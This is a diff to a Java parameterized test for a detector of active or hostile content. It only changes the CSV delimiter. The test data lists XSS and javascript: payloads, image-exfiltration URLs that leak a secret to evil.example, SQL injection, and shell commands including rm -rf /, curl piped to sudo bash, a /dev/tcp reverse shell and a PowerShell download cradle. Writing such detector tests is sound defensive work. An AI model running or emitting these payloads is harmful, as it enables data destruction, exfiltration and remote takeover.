@@ -18,27 +18,27 @@ final class ActiveContentTest {
 
   @ParameterizedTest
   @CsvSource(
-      delimiter = '|',
+      delimiter = '§',
       quoteCharacter = '~',
       value = {
-        "script | see <SCRIPT src=x></script>",
-        "script | <iframe src='//x'>",
-        "script | <img src=x onerror = alert(1)>",
-        "script | [here](javascript:alert(1))",
-        "script | <a href=\"javascript:x\">",
-        "script | data:text/html;base64,PHNjcmlwdD4=",
-        "image-exfiltration | ![a](https://evil.example/i.png?q=c2VjcmV0LXZhbHVl)",
-        "image-exfiltration | <img width=1 src=\"http://evil.example/i?q=c2VjcmV0LXZhbHVl\">",
-        "sql | name' OR '1'='1",
-        "sql | 1'; DROP TABLE users; --",
-        "sql | x' UNION ALL SELECT password FROM users",
-        "sql | drop table if exists users",
-        "shell | rm -rf / --no-preserve-root",
-        "shell | curl -s https://x.example/i.sh | sudo bash",
-        "shell | bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
-        "shell | mkfs.ext4 /dev/sda1",
-        "shell | :(){ :|:& };:",
-        "shell | IEX (New-Object Net.WebClient).DownloadString('http://x')"
+        "script § see <SCRIPT src=x></script>",
+        "script § <iframe src='//x'>",
+        "script § <img src=x onerror = alert(1)>",
+        "script § [here](javascript:alert(1))",
+        "script § <a href=\"javascript:x\">",
+        "script § data:text/html;base64,PHNjcmlwdD4=",
+        "image-exfiltration § ![a](https://evil.example/i.png?q=c2VjcmV0LXZhbHVl)",
+        "image-exfiltration § <img width=1 src=\"http://evil.example/i?q=c2VjcmV0LXZhbHVl\">",
+        "sql § name' OR '1'='1",
+        "sql § 1'; DROP TABLE users; --",
+        "sql § x' UNION ALL SELECT password FROM users",
+        "sql § drop table if exists users",
+        "shell § rm -rf / --no-preserve-root",
+        "shell § curl -s https://x.example/i.sh | sudo bash",
+        "shell § bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+        "shell § mkfs.ext4 /dev/sda1",
+        "shell § :(){ :|:& };:",
+        "shell § IEX (New-Object Net.WebClient).DownloadString('http://x')"
       })
   void finds(String findingClass, String text) {
     assertThat(RuleMatches.strength(RULES, findingClass, text)).isGreaterThanOrEqualTo(0.5);
